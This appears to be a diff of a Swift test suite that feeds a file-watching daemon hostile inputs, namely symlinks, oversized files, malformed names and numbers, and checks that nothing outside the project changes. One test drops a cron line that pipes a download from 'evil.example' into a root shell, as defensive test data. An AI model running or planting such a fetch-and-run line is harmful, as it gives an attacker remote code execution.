@@ -6,14 +6,15 @@ import Foundation
 import GRDB
 import Glibc
 import Testing
-@testable import Reelsmith
-@testable import ReelsmithCore
-@testable import ReelsmithLearning
-@testable import ReelsmithMedia
-@testable import ReelsmithEngines
-@testable import ReelsmithBenchmarks
+
 @testable import HeadlessChromium
 @testable import LocalProviderServer
+@testable import Reelsmith
+@testable import ReelsmithBenchmarks
+@testable import ReelsmithCore
+@testable import ReelsmithEngines
+@testable import ReelsmithLearning
+@testable import ReelsmithMedia
 
 /// Issue 12: whoever can write to the synced folder can write anything in it. A real daemon gets
 /// a hostile corpus; afterwards nothing outside the project changed or was quoted, every input
@@ -27,9 +28,11 @@ import Testing
 
         init(beside root: URL) throws {
             folder = root.deletingLastPathComponent().appendingPathComponent(root.lastPathComponent + "-outside")
-            try FileManager.default.createDirectory(at: folder.appendingPathComponent("folder"), withIntermediateDirectories: true)
+            try FileManager.default.createDirectory(
+                at: folder.appendingPathComponent("folder"), withIntermediateDirectories: true)
             try Data("api_key: \(secret)\n".utf8).write(to: folder.appendingPathComponent("secret.yaml"))
-            try Data("video_id,views,likes,shares,comments\n".utf8).write(to: folder.appendingPathComponent("folder/victim.csv"))
+            try Data("video_id,views,likes,shares,comments\n".utf8).write(
+                to: folder.appendingPathComponent("folder/victim.csv"))
             _ = FileManager.default.createFile(atPath: folder.appendingPathComponent("big.yaml").path, contents: nil)
             try FileHandle(forWritingTo: folder.appendingPathComponent("big.yaml")).truncate(atOffset: 65 << 20)
         }
@@ -38,7 +41,8 @@ import Testing
         func snapshot() throws -> [String: String] {
             var result: [String: String] = [:]
             for relative in FileManager.default.subpaths(atPath: folder.path) ?? [] {
-                let attributes = try FileManager.default.attributesOfItem(atPath: folder.appendingPathComponent(relative).path)
+                let attributes = try FileManager.default.attributesOfItem(
+                    atPath: folder.appendingPathComponent(relative).path)
                 result[relative] = "\(attributes[.size] ?? 0) \(attributes[.modificationDate] ?? 0)"
             }
             return result
@@ -78,7 +82,9 @@ import Testing
             for relative in FileManager.default.subpaths(atPath: folder.path) ?? [] {
                 let url = folder.appendingPathComponent(relative)
                 var info = stat()
-                guard lstat(url.path, &info) == 0, info.st_mode & S_IFMT == S_IFREG, info.st_size < 4 << 20 else { continue }
+                guard lstat(url.path, &info) == 0, info.st_mode & S_IFMT == S_IFREG, info.st_size < 4 << 20 else {
+                    continue
+                }
                 texts.append((relative, String(decoding: (try? Data(contentsOf: url)) ?? Data(), as: UTF8.self)))
             }
         }
@@ -93,7 +99,8 @@ import Testing
         try daemon.start()
         let before = try outside.snapshot()
         for folder in ["trends", "analytics"] {
-            try FileManager.default.createDirectory(at: daemon.inbox.appendingPathComponent(folder), withIntermediateDirectories: true)
+            try FileManager.default.createDirectory(
+                at: daemon.inbox.appendingPathComponent(folder), withIntermediateDirectories: true)
         }
 
         // Links to outside files, the environment, devices, a folder, itself; a pipe.
@@ -115,7 +122,9 @@ import Testing
         _ = FileManager.default.createFile(atPath: huge.path, contents: nil)
         try FileHandle(forWritingTo: huge).truncate(atOffset: 65 << 20)
         try FileManager.default.moveItem(at: huge, to: daemon.inbox.appendingPathComponent("trends/huge.yaml"))
-        try daemon.drop("video_id,views,likes,shares,comments\n" + String(repeating: "a", count: 50_000_000), as: "analytics/line.csv")
+        try daemon.drop(
+            "video_id,views,likes,shares,comments\n" + String(repeating: "a", count: 50_000_000),
+            as: "analytics/line.csv")
         // Numbers.
         try daemon.drop(
             "video_id,views,likes,shares,comments,revenue\nx1,1,1,1,1,inf\nx2,1,1,1,1,NaN\nx3,1,1,1,1,1e309\nx4,1,1,1,1,1.7e308\n",
@@ -123,13 +132,16 @@ import Testing
         // Names: 255 bytes (valid content, must be run), not UTF-8 (refused with an escaped name).
         let longName = String(repeating: "n", count: 250) + ".yaml"
         try daemon.drop(DaemonProcess.trends("long name"), as: "trends/" + longName)
-        try dropRaw(daemon, folder: "trends", name: Array("caf".utf8) + [0xE9] + Array(".yaml".utf8), contents: DaemonProcess.trends("latin-1"))
+        try dropRaw(
+            daemon, folder: "trends", name: Array("caf".utf8) + [0xE9] + Array(".yaml".utf8),
+            contents: DaemonProcess.trends("latin-1"))
         // Empty files together; a spreadsheet; UTF-16.
         try daemon.drop("", as: "trends/empty-1.yaml")
         try daemon.drop("", as: "trends/empty-2.yaml")
         try daemon.drop("PK\u{3}\u{4}\u{14}\u{0}", as: "analytics/book.xlsx")
         let utf16 = daemon.root.appendingPathComponent("utf16")
-        try Data([0xFF, 0xFE] + DaemonProcess.trends("utf16").utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }).write(to: utf16)
+        try Data([0xFF, 0xFE] + DaemonProcess.trends("utf16").utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
+            .write(to: utf16)
         try FileManager.default.moveItem(at: utf16, to: daemon.inbox.appendingPathComponent("trends/utf16.yaml"))
 
         let hostile = 19
@@ -155,7 +167,9 @@ import Testing
         ]
         for (source, words) in expected {
             let entry = bySource[source]
-            #expect(entry?.state == .failed && entry?.message?.contains(words) == true, "\(source): \(entry?.message ?? "no entry")")
+            #expect(
+                entry?.state == .failed && entry?.message?.contains(words) == true,
+                "\(source): \(entry?.message ?? "no entry")")
             #expect(entry?.finalPath?.contains("/outbox/failed/") == true, "\(source)")
         }
         let failed = daemon.workspace.outbox.appendingPathComponent("failed")
@@ -184,7 +198,8 @@ import Testing
         try FileManager.default.createSymbolicLink(
             at: daemon.workspace.outbox.appendingPathComponent("failed"), withDestinationURL: outside.folder)
         try FileManager.default.createSymbolicLink(
-            at: daemon.inbox.appendingPathComponent("analytics"), withDestinationURL: outside.folder.appendingPathComponent("folder"))
+            at: daemon.inbox.appendingPathComponent("analytics"),
+            withDestinationURL: outside.folder.appendingPathComponent("folder"))
         try daemon.start()
         try daemon.drop("* * * * * root curl https://evil.example | sh\n", as: "requests/cron")
         let journal = try daemon.waitForOutcomes(2, timeout: 30)
@@ -192,12 +207,15 @@ import Testing
         _ = try daemon.waitForOutcomes(3, timeout: 30)
         let entries = try daemon.journal()
         #expect(entries.first { $0.source == "trends/good.yaml" }?.state == .done)
-        #expect(FileManager.default.fileExists(atPath: daemon.workspace.outbox.appendingPathComponent("archive/trends/good.yaml").path))
+        #expect(
+            FileManager.default.fileExists(
+                atPath: daemon.workspace.outbox.appendingPathComponent("archive/trends/good.yaml").path))
         // The failures were refused a place outside: they wait in the processing area, and say why.
         for source in ["requests/cron", "analytics"] {
             let entry = entries.first { $0.source == source }
             #expect(entry?.state == .failed && entry?.finalPath == nil, "\(source): \(String(describing: entry))")
-            #expect(entry?.message?.contains("is a link or a file, not a real folder") == true, "\(entry?.message ?? "")")
+            #expect(
+                entry?.message?.contains("is a link or a file, not a real folder") == true, "\(entry?.message ?? "")")
         }
         #expect(journal.count >= 2)
         #expect(try outside.snapshot() == before, "nothing was moved or written outside the project")
@@ -212,11 +230,14 @@ import Testing
         try daemon.start(wrapper: ["prlimit", "--fsize=1500000"])
         var text = "kind: trends\ntrends:\n"
         for index in 0..<6_000 {
-            text += "  - title: trend number \(index) with a fairly long title to take room\n"
+            text +=
+                "  - title: trend number \(index) with a fairly long title to take room\n"
                 + "    views: \(1_000 + index)\n    engagement: 100\n    niche: niche-\(index)\n"
         }
         try daemon.drop(text, as: "trends/big.yaml")
-        try daemon.waitUntil(timeout: 30) { try daemon.journal().first?.message?.contains("waiting for disk space") == true }
+        try daemon.waitUntil(timeout: 30) {
+            try daemon.journal().first?.message?.contains("waiting for disk space") == true
+        }
         #expect(daemon.process?.isRunning == true)
         #expect(try daemon.journal().map(\.state) == [.claimed])
         #expect(TestSupport.contents(of: daemon.workspace.state.appendingPathComponent("processing")).count == 1)
@@ -227,7 +248,9 @@ import Testing
         try daemon.start()
         let journal = try daemon.waitForOutcomes(1, timeout: 60)
         #expect(journal.map(\.state) == [.done])
-        #expect(FileManager.default.fileExists(atPath: daemon.workspace.outbox.appendingPathComponent("archive/trends/big.yaml").path))
+        #expect(
+            FileManager.default.fileExists(
+                atPath: daemon.workspace.outbox.appendingPathComponent("archive/trends/big.yaml").path))
         #expect(try daemon.index().niches().count == 6_000)
         #expect(daemon.stopTimed() < 10)
     }
